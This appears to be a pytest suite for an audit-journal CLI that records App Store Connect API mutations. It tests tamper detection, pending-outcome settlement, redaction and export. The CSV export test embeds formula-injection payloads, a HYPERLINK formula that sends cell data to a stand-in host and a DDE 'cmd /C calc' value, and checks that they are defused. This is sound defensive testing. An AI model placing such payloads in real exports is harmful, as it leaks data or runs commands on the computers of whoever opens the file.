"""`asckit audit`: what was sent, whether the journal is as it was written, and what nobody knows the end of."""

from __future__ import annotations

import csv
import functools
import io
import json
import os
import signal
import stat
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from tests.unit.journals import intent, lines, outcome, write

from asckit.testing import Sandbox
from asckit_plugins.audit import Intent, Journal, Outcome, read_journal
from asckit_plugins.audit.segments import rotated

from .conftest import Command

EVIL = '=HYPERLINK("https://example.com/?"&A1)'


@pytest.fixture
def path(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Where the journal is."""
    path = tmp_path / "audit.jsonl"
    monkeypatch.setenv("ASCKIT_AUDIT_PATH", str(path))
    monkeypatch.setenv("COLUMNS", "160")
    monkeypatch.setenv("TZ", "UTC")
    time.tzset()
    return path


@pytest.fixture(autouse=True)
def own_time_zone() -> Iterator[None]:
    """Take back the time zone of a test."""
    yield
    time.tzset()


# -- verify ------------------------------------------------------------------------------------


def test_verify_says_how_many_records_and_up_to_which_hash(asckit: Command, path: Path) -> None:
    write(Journal(path), "a", "b")
    head = json.loads(lines(path)[-1])["hash"]
    result = asckit("audit", "verify")
    assert (result.code, result.err) == (0, "")
    assert result.out.splitlines()[:2] == [f"intact: 4 records, 1 to 4, from {path}:1 on", f"head: {head}"]
    assert "write it down elsewhere" in result.out
    assert "elsewhere" not in asckit("audit", "verify", "--head", head).out


def test_verify_says_what_is_wrong_and_where_and_ends_with_1(asckit: Command, path: Path) -> None:
    write(Journal(path), "a", "b", "c")
    whole = lines(path)
    path.write_bytes(b"".join([*whole[:1], whole[1].replace(b"200", b"201"), whole[2], *whole[4:]]))
    result = asckit("audit", "verify")
    assert result.code == 1
    assert result.out.splitlines()[:3] == [
        f"{path}:2: changed: its content does not have the hash that it was written with",
        f"{path}:4: removed: record 4 is missing before this line",
        "not intact: 5 records looked at",
    ]
    found = json.loads(asckit("audit", "verify", "--json").out)
    assert found["intact"] is False
    assert [(each["what"], each["line"]) for each in found["findings"]] == [("changed", 2), ("removed", 4)]


def test_a_line_cut_short_by_a_crash_is_said_and_is_no_error(asckit: Command, path: Path) -> None:
    write(Journal(path), "a")
    with path.open("ab") as file:
        file.write(b'{"v":2,"seq":3,"ki')
    write(Journal(path), "b")
    result = asckit("audit", "verify")
    assert result.code == 0
    assert f"{path}:3: torn: cut short by a crash; the chain goes on behind it\nintact: 4 records" in result.out


def test_a_head_that_is_gone_ends_with_1(asckit: Command, path: Path) -> None:
    write(Journal(path), "a", "b")
    head = json.loads(lines(path)[-1])["hash"]
    path.write_bytes(b"".join(lines(path)[:2]))
    assert asckit("audit", "verify").code == 0
    result = asckit("audit", "verify", "--head", head)
    assert (result.code, "the end was cut off, or all was written anew" in result.out) == (1, True)
    assert json.loads(asckit("audit", "verify", "--head", head, "--json").out)["has_head"] is False
    assert asckit("audit", "verify", "--head", "xyz").code == 2


def test_verify_tells_what_retention_removed_from_tampering(asckit: Command, path: Path) -> None:
    write(Journal(path, max_bytes=2000, keep=1), *[f"m{n}" for n in range(9)])
    result = asckit("audit", "verify")
    assert result.code == 0
    assert "are gone with older segments, as audit.keep has it" in result.out


def test_a_journal_from_before_the_chain_has_nothing_to_check(asckit: Command, path: Path) -> None:
    path.write_text('{"v":1,"kind":"intent"}\n')
    result = asckit("audit", "verify")
    assert (result.code, "there is nothing to check" in result.out) == (0, True)


def test_without_a_journal_there_is_an_error(asckit: Command, path: Path) -> None:
    result = asckit("audit", "verify")
    assert (result.code, "cannot be read (there is none); check audit.path" in result.err) == (1, True)
    assert asckit("audit", "show", "--path", str(path)).code == 1


# -- pending and settle ------------------------------------------------------------------------


def test_pending_says_what_to_check_and_settle_ends_it(asckit: Command, path: Path) -> None:
    assert asckit("audit", "pending").out.startswith("nothing is pending")
    journal = Journal(path)
    group = {"data": {"type": "apps", "id": "7"}}
    body = {"data": {"type": "betaGroups", "attributes": {"name": "QA"}, "relationships": {"app": group}}}
    target: dict[str, Any] = {"type": "betaGroups", "id": None, "relationship": None, "linked": []}
    creating = {"operation": "betaGroups_createInstance", "method": "POST", "path": "/v1/betaGroups"}
    journal.open(Intent, intent("a" * 32, **creating, body=body, target=target))
    journal.close(Outcome, outcome("a" * 32, result="unknown", error="OutcomeUnknown: 503\nmore"))
    journal.open(Intent, intent("b" * 32))
    result = asckit("audit", "pending")
    assert result.code == 0
    check = "asckit api beta-groups list --filter-app 7"
    assert f"its outcome is unknown\n    OutcomeUnknown: 503\n    check:  {check}\n" in result.out
    assert f"in flight: the process that sends it still runs (process {os.getpid()} on" in result.out
    listed = json.loads(asckit("audit", "pending", "--json").out)
    assert [(each["id"], each["state"], each["check"]) for each in listed] == [
        ("a" * 32, "unknown", check),
        ("b" * 32, "in flight", None),
    ]
    assert asckit("audit", "pending", "--exit-code").code == 6
    settled = asckit("audit", "settle", "aaaa", "--landed", "--note", "seen in App Store Connect")
    assert (settled.code, "  found to have landed  POST /v1/betaGroups\n" in settled.out) == (0, True)
    assert asckit("audit", "pending", "--exit-code").code == 0, "what is in flight needs no check"
    (entry, _) = json.loads(asckit("audit", "show", "--json").out)
    assert (entry["settlement"]["landed"], entry["settlement"]["note"]) == (True, "seen in App Store Connect")
    assert asckit("audit", "verify").code == 0


def test_a_note_is_redacted_like_everything_else(asckit: Command, path: Path) -> None:
    journal = Journal(path)
    journal.open(Intent, intent("a"))
    journal.close(Outcome, outcome("a", result="unknown"))
    assert asckit("audit", "settle", "a", "--not-landed", "--note", "asked with Bearer CANARY").code == 0
    assert "asked with Bearer [redacted]" in path.read_text("utf-8")
    assert "CANARY" not in asckit("audit", "show", "--json").out + path.read_text("utf-8")


def test_only_what_is_pending_can_be_settled(asckit: Command, path: Path) -> None:
    journal = Journal(path)
    write(journal, "done1")
    journal.open(Intent, intent("ab1"))
    journal.open(Intent, intent("ab2"))
    before = path.read_bytes()
    several = "fits several pending mutations; pending are ab1, ab2"
    for id, says in (("done1", "is no pending mutation"), ("ab", several)):
        result = asckit("audit", "settle", id, "--landed")
        assert (result.code, says in result.err) == (4, True), result.err
    assert asckit("audit", "settle", "ab1").code == 2
    result = asckit("audit", "settle", "ab1", "--landed")
    assert (result.code, "'ab1' is in flight: the process that sends it still runs" in result.err) == (4, True)
    assert path.read_bytes() == before


# -- show, tail, export ------------------------------------------------------------------------


def test_mutations_are_chosen_by_time_operation_and_id(asckit: Command, path: Path) -> None:
    journal = Journal(path)
    for day, id, operation in ((1, "a", "things_updateInstance"), (2, "b", "builds_updateInstance"), (3, "c", "x")):
        target = {"type": "things", "id": f"T{id}", "relationship": "r", "linked": [f"L{id}"]}
        time_ = f"2026-03-0{day}T10:00:00.000+00:00"
        journal.open(Intent, intent(id, time=time_, operation=operation, target=target))
        journal.close(Outcome, outcome(id, target={**target, "id": f"N{id}"}))

    def shown(*options: str) -> list[str]:
        return [entry["id"] for entry in json.loads(asckit("audit", "show", "--json", *options).out)]

    assert shown() == ["a", "b", "c"]
    assert shown("--since", "2026-03-02") == ["b", "c"]
    assert shown("--until", "2026-03-02") == ["a", "b"]
    assert shown("--until", "2026-03-02T10:00+00:00") == ["a"]
    assert shown("--since", "2026-03-02T12:00+02:00", "--until", "2026-03-02") == ["b"]
    assert shown("--operation", "builds_") == ["b"]
    assert shown("--id", "b") == shown("--id", "Tb") == shown("--id", "Lb") == shown("--id", "Nb") == ["b"]
    assert shown("--last", "1") == ["c"]
    assert "no such mutations" in asckit("audit", "show", "--id", "nothing").out
    wrong = asckit("audit", "show", "--since", "yesterday")
    assert (wrong.code, "is no date or time; write 2026-03-01" in wrong.err) == (2, True)


def test_the_path_of_a_profile_counts(asckit: Command, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("ASCKIT_AUDIT_PATH", raising=False)
    path = tmp_path / "of the profile.jsonl"
    write(Journal(path), "a")
    config = tmp_path / "config.toml"
    config.write_text(f"[profiles.ci.audit]\npath = {json.dumps(str(path))}\n")
    monkeypatch.setenv("ASCKIT_CONFIG", str(config))
    assert [entry["id"] for entry in json.loads(asckit("--profile", "ci", "audit", "show", "--json").out)] == ["a"]


def test_tail_shows_the_last_records(asckit: Command, path: Path) -> None:
    assert asckit("audit", "tail").out == "the journal is empty: nothing was sent yet\n"
    write(Journal(path, max_bytes=2000), *[f"m{n}" for n in range(9)])
    assert rotated(path)
    result = asckit("audit", "tail", "-n", "3")
    assert result.out.splitlines() == [
        "2026-03-01 10:00:00  done 200  PATCH /v1/things/1",
        "2026-03-01 10:00:00  sending  PATCH /v1/things/1",
        "2026-03-01 10:00:00  done 200  PATCH /v1/things/1",
    ]
    told = [json.loads(line) for line in asckit("audit", "tail", "-n", "2", "--json").out.splitlines()]
    assert [(each["id"], each["seq"]) for each in told] == [("m8", 17), ("m8", 18)]


@pytest.mark.skipif(os.name != "posix", reason="SIGINT is POSIX's")
def test_tail_follows_the_journal_into_its_next_segments(path: Path) -> None:
    journal = Journal(path, max_bytes=2000)
    write(journal, "before")
    command = [sys.executable, "-m", "asckit", "audit", "tail", "-f", "-n", "1", "--json", "--path", str(path)]
    # Shells have their background jobs ignore SIGINT, and children inherit that: CI may be one.
    heed = functools.partial(signal.signal, signal.SIGINT, signal.SIG_DFL)
    with subprocess.Popen(
        command, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, preexec_fn=heed
    ) as process:
        try:
            assert process.stdout is not None
            seen = [json.loads(process.stdout.readline())]
            for n in range(9):
                write(journal, f"m{n}")
            while seen[-1]["seq"] < 20:
                seen.append(json.loads(process.stdout.readline()))
            process.send_signal(signal.SIGINT)
            assert process.wait(20) == 130
        finally:
            process.kill()
    assert len(rotated(path)) >= 2
    assert [each["seq"] for each in seen] == list(range(2, 21))


def test_export_writes_json(asckit: Command, path: Path) -> None:
    write(Journal(path), "a", "b")
    told = json.loads(asckit("audit", "export").out)
    assert [(each["id"], each["result"], each["seq"], each["outcome_seq"]) for each in told] == [
        ("a", "succeeded", 1, 2),
        ("b", "succeeded", 3, 4),
    ]


def test_a_spreadsheet_runs_nothing_of_what_is_in_an_export(asckit: Command, path: Path, tmp_path: Path) -> None:
    journal = Journal(path)
    target = {"type": "things", "id": "-1+cmd|' /C calc'!A0", "relationship": "@r", "linked": ["+1", "2"]}
    for n, start in enumerate(["=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "＝"]):
        journal.open(Intent, intent(f"{start}{n}", path=f"{start}1+1", body=EVIL, key_id='x,"y"\n=1', target=target))
        journal.close(Outcome, outcome(f"{start}{n}", error=EVIL, request_id=f"{start}2"))
    out = tmp_path / "export.csv"
    result = asckit("audit", "export", "--format", "csv", "--out", str(out), "--until", "2026-04-01")
    assert (result.code, result.out, result.err) == (0, "", f"{out}: 9 mutations\n")
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    rows = list(csv.DictReader(io.StringIO(out.read_text("utf-8"), newline="")))
    assert len(rows) == 9
    cells: list[Any] = [cell for row in rows for cell in row.values()]
    assert [cell for cell in cells if cell.strip().startswith(("=", "+", "-", "@", "＝"))] == []
    assert rows[0]["error"] == f"'{EVIL}"
    assert (rows[0]["key_id"], rows[0]["linked"]) == ('x,"y"\n=1', "'+1 2")
    assert (rows[0]["status"], rows[0]["attempts"], rows[0]["settled"]) == ("200", "1", "")


def test_a_file_that_cannot_be_written_is_an_error(asckit: Command, path: Path, tmp_path: Path) -> None:
    write(Journal(path), "a")
    result = asckit("audit", "export", "--out", str(tmp_path / "no" / "where"))
    assert (result.code, "No such file" in result.err) == (1, True)


def test_what_a_workflow_sends_is_about_what_it_changes(served: Sandbox, asckit: Command, tmp_path: Path) -> None:
    asckit(
        "testflight", "distribute", "com.example.aurora", "--build", "41", "--group", "QA", "--whats-new", "fr-FR=Oui"
    )
    created, given = [record for record in read_journal(tmp_path / "audit.jsonl") if isinstance(record, Outcome)]
    (notes,) = served.ids("betaBuildLocalizations", locale="fr-FR")
    assert created.target is not None
    assert (created.target.type, created.target.id) == ("betaBuildLocalizations", notes)
    assert given.target is None
    (entry,) = json.loads(asckit("audit", "show", "--json", "--id", notes).out)
    assert entry["operation"] == "betaBuildLocalizations_createInstance"
    (group,) = served.ids("betaGroups", name="QA")
    (entry,) = json.loads(asckit("audit", "show", "--json", "--id", group).out)
    assert entry["target"]["relationship"] in ("betaGroups", "builds")
    assert asckit("audit", "verify").code == 0
